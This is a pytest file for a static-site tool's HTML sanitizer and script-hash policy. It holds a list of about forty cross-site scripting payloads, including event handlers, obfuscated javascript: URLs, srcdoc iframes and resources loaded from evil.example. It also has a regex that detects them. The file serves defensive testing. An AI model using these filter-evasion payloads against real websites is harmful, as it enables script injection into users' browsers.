"""Nothing in a finished page is live but the theme's own: scripts by known hashes, no handler, frame or foreign address."""

# ruff: noqa: E501 - a table of what is live
from __future__ import annotations

import re
from pathlib import Path

import pytest

from malaff.model.records import Collection, Config
from malaff.site.live import KNOWN, make_inert, to_policy

Built = tuple[Path, Collection, Config]
LIVE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script type=module>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img/onerror=alert(1) src=x>", "<svg onload=alert(1)>", '<a href="javascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>', '<a href=" javascript&colon;alert(1)">x</a>', '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>', '<embed src="//evil.example/">', '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="preconnect" href="//evil.example">', '<form action="https://evil.example/"><input name=q></form>', "<style>@import '//evil.example'</style>",
    '<p style="background:url(//evil.example/x)">x</p>', '<img src="https://evil.example/x.png">', '<img srcset="//evil.example/x.png 1x">',
    '<video poster="//evil.example/x.png"></video>', '<audio src="https://evil.example/x.mp3"></audio>', '<input type=image src="//evil.example/x.png">',
    '<button formaction="javascript:alert(1)">x</button>', '<a href="x" ping="https://evil.example/">x</a>', "<body onload=alert(1)>",
    '<svg><use href="//evil.example/x.svg#a"/></svg>', '<svg><image xlink:href="https://evil.example/x.png"/></svg>', "<details open ontoggle=alert(1)>", "<svg><a><set attributeName=href to=javascript:alert(1) /></a></svg>", "<svg><animateMotion onbegin=alert(1) dur=1s /></svg>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>', '<script src="data:text/javascript,alert(1)"></script>',
    '<script src="https://evil.example/assets/x.js"></script>', '<script src="assets/x.js">alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">',
)
BAD = re.compile(r"alert|evil\.example|javascript|vbscript|srcdoc|<iframe|<base|http-equiv|\son\w+=", re.I)


@pytest.mark.parametrize("live", LIVE)
def test_what_is_live_goes(live: str) -> None:
    """Neither the script nor the address is left outside plain text, and the policy approves nothing of it."""
    html = f"<p>قبل</p>{live}<p>بعد</p>"
    left = make_inert(html)
    assert "<p>قبل</p>" in left and left.endswith("<p>بعد</p>")
    assert not [tag for tag in re.findall(r"<[A-Za-z][^>]*>", left) if BAD.search(tag)], left
    assert "<script>" not in left and "sha256-" not in to_policy(html)


def test_words_about_code_stay() -> None:
    """Text that only speaks of scripts, plain links and pictures of the site stay letter for letter."""
    html = '<p>كتب onerror=alert(1) و javascript: في مقاله &lt;script&gt;</p><a href="https://x.example/?a=1&amp;b=2">x</a><img src="assets/a.svg" alt="x">'
    assert make_inert(html) == html


def test_the_policy_lists_known_scripts_only(built: Built) -> None:
    """Every hash of every page is of a script of Material's; each page still has its scripts."""
    assert len(KNOWN) >= 4
    for path in built[0].rglob("*.html"):
        html = path.read_text("utf-8")
        assert make_inert(html.replace(re.search(r"<meta http-equiv[^>]*>", html)[0], ""), built[1].url) == html.replace(  # type: ignore[index]
            re.search(r"<meta http-equiv[^>]*>", html)[0], ""), path  # type: ignore[index]
        assert html.count("sha256-") >= 3, path
